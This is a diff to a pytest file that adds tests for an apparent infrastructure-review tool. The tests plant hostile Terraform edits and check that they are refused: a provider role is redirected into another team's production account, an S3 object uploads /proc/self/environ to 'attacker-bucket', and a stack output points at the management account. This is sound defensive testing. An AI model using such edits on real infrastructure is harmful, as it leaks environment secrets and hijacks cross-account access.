@@ -8,8 +8,11 @@ import os
 
 import pytest
 
+from modules.post.manifest import Manifest
+from modules.post.run import context, outputs_values
 from modules.review.gitbase import LinkOutside, extract, show
-from tests.delivery.test_planted_pull_requests import STACK, _edit_json, _edit_text, check, plant, repo  # noqa: F401
+from tests.delivery.test_planted_pull_requests import ROOT, STACK, _edit_json, _edit_text, check, plant, repo  # noqa: F401
+from tests.post.fakes import FakeGateway
 
 TOUCH = _edit_text("modules/naming.py", '"""', '"""A harmless edit. ')
 HIDDEN_CALLS = {
@@ -91,3 +94,45 @@ def test_the_git_readers_take_blobs_as_committed(repo, tmp_path):  # noqa: F811
     linked = plant(repo, lambda root: os.symlink("../../main.py", root / "registry" / "teams" / "x.yaml"))
     with pytest.raises(LinkOutside, match="outside registry"):
         extract(linked, "registry", repo, tmp_path / "y")
+
+
+MODE = '${var.access_mode == "plan" ? "northwind-plan" : "OrganizationAccountAccessRole"}'
+CHURN_PROD = 'arn:aws:iam::${data.terraform_remote_state.organization.outputs.account_ids["churn-prod"]}:role/' + MODE
+MANAGEMENT = "100000000001"
+
+
+def _pricing_dev_acts_in_churn_prod_and_uploads_a_local_file(d):
+    d["provider"]["aws"][0]["assume_role"][0]["role_arn"] = CHURN_PROD  # pricing-dev's default provider -> churn-prod
+    d["resource"]["aws_s3_object"] = {"x": {"bucket": "attacker-bucket", "key": "env", "source": "/proc/self/environ"}}
+
+
+def test_another_teams_account_and_a_local_file_are_refused(repo, run_cli):  # noqa: F811
+    edit = _edit_json(f"{STACK}/cdk.tf.json", _pricing_dev_acts_in_churn_prod_and_uploads_a_local_file)
+    code, out, err = check(run_cli, repo, plant(repo, lambda root: (TOUCH(root), edit(root))))
+    assert code == 1 and out == "", err
+    assert '"pricing-dev": provider.aws[0].assume_role.role_arn:' in err and "is not a role the compiler assumes for this stack" in err
+    assert '"pricing-dev": resource aws_s3_object.x.source: reads a file of the machine that applies' in err
+
+
+def test_a_stack_output_cannot_choose_the_account_the_post_step_acts_in(repo, run_cli):  # noqa: F811
+    redirect = _edit_json(f"{STACK}/cdk.tf.json", lambda d: d["output"]["account_id"].update({"value": MANAGEMENT}))
+    code, out, err = check(run_cli, repo, plant(repo, lambda root: (TOUCH(root), redirect(root))))
+    assert code == 1 and f'"pricing-dev": output "account_id".value: "{MANAGEMENT}" where the compiler writes' in err, err
+
+    # and should such an output reach the post-step (an older image, a state edited by hand), it is refused there
+    manifest = Manifest.parse((ROOT / "generated/post/pricing-dev.json").read_text(), "pricing-dev.json")
+    assert manifest.account.id is None and manifest.account.id_output == "account_id"
+    gateway = FakeGateway()
+    gateway.accounts = {manifest.account.name: "111122223333"}
+    tf_outputs = {"account_id": {"value": MANAGEMENT, "type": "string", "sensitive": False}}  # `terraform output -json`
+    with pytest.raises(ValueError, match=f'output account_id is "{MANAGEMENT}", but Organizations lists account'):
+        context(manifest, gateway, outputs_values(tf_outputs), None)
+    assert context(manifest, gateway, {"account_id": "111122223333"}, None).account_id == "111122223333"
+    for outputs, message in (
+        ({"ram_share_arns": {"price-elasticity-pipeline": "arn:aws:ram:eu-west-1:999999999999:resource-share/x"}}, "not a RAM share"),
+        ({"ram_share_arns": {"price-elasticity-pipeline": "arn:aws:ram:us-east-1:111122223333:resource-share/x"}}, "not a RAM share"),
+        ({"ram_share_arns": ["arn"]}, "not a map of share names"),
+        ({"domain_id": "d-of-another-account"}, "but the domain 'northwind-pricing-dev' of account 111122223333"),
+    ):
+        with pytest.raises(ValueError, match=message):
+            context(manifest, gateway, outputs, None)
